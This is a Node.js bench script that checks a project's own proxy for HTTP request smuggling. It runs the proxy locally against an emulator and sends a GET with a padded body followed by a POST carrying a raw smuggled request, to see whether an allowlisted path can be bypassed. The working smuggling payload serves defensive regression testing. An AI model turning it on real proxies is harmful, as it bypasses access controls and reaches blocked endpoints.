#!/usr/bin/env node
// Request smuggling through the studio's pooled upstream connections: a GET carrying a length
// and a body, then a POST whose body is a raw request for a path outside the allowlist. A studio
// that forwards the GET's length without its body makes the service read the POST's head as
// that body and the smuggled request as a request of its own, whose answer the POST then gets.
// The studio's proxy runs in this process (the checkout in the current directory) against the
// service at UPSTREAM (a running emulator with the demo accounts):
//   UPSTREAM=http://127.0.0.1:4201 node --conditions react-server --import tsx bench/proxy-smuggling.mjs [attempts]
// Run from another checkout's directory to measure that checkout's proxy.
import { mkdtempSync } from 'node:fs'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'

const upstream = process.env.UPSTREAM ?? 'http://127.0.0.1:4201'
const attempts = Number(process.argv[2] ?? 10)
Object.assign(process.env, {
  STUDIO_UPSTREAM_URL: upstream,
  SESSION_SECRET: 'b'.repeat(40),
  STUDIO_DATA_DIR: mkdtempSync(path.join(tmpdir(), 'smuggling-')),
  STUDIO_UPSTREAM_TIMEOUT_MS: '3000',
})
const root = process.cwd()
const { relayRequest } = await import(path.join(root, 'lib/server/relay.ts'))
const { sealSession, newSession } = await import(path.join(root, 'lib/server/session.ts'))
const key = 'sk_live_demo_creator'
const cookie = `media_studio_session=${await sealSession(newSession(key))}`
const studio = createServer((req, res) => void relayRequest(req, res))
await new Promise((resolve) => studio.listen(0, '127.0.0.1', resolve))
const port = studio.address().port

/** One raw request on its own connection; resolves with the status line and body. */
function raw(text) {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(text))
    let got = ''
    const timer = setTimeout(() => socket.destroy(), 4000)
    socket.on('data', (d) => {
      got += d
      const [head, body = ''] = got.split('\r\n\r\n')
      const length = /content-length: (\d+)/i.exec(head)?.[1]
      if (length !== undefined && Buffer.byteLength(body) >= Number(length)) socket.destroy()
    })
    socket.on('close', () => {
      clearTimeout(timer)
      const [head, body = ''] = got.split('\r\n\r\n')
      resolve(`${head.split('\r\n')[0] || 'no answer'} ${body.slice(0, 90)}`)
    })
  })
}

const smuggled = 'GET /v1/not-in-the-allowlist HTTP/1.1\r\nHost: x\r\n\r\n'
// The POST's head as the studio used to write it upstream: the GET's length swallows exactly it.
const postHead =
  `POST /v1/assets HTTP/1.1\r\ncontent-type: application/json\r\ncontent-length: ${smuggled.length}\r\n` +
  `x-api-key: ${key}\r\nHost: ${new URL(upstream).host}\r\nConnection: keep-alive\r\n\r\n`
const tally = {}
for (let i = 0; i < attempts; i += 1) {
  const get = await raw(
    `GET /api/v1/balance HTTP/1.1\r\nHost: s\r\nCookie: ${cookie}\r\n` +
      `Content-Length: ${postHead.length}\r\n\r\n${'x'.repeat(postHead.length)}`,
  )
  const post = await raw(
    `POST /api/v1/assets HTTP/1.1\r\nHost: s\r\nCookie: ${cookie}\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
  )
  const smuggledAnswered = post.includes('not-in-the-allowlist')
  const outcome = `GET ${get.split(' ')[1]}, POST ${post.split(' ')[1]}${smuggledAnswered ? ' (the smuggled request answered)' : ''}`
  tally[outcome] = (tally[outcome] ?? 0) + 1
}
console.log(`${attempts} attempts:`, tally)
studio.close()
process.exit(0)
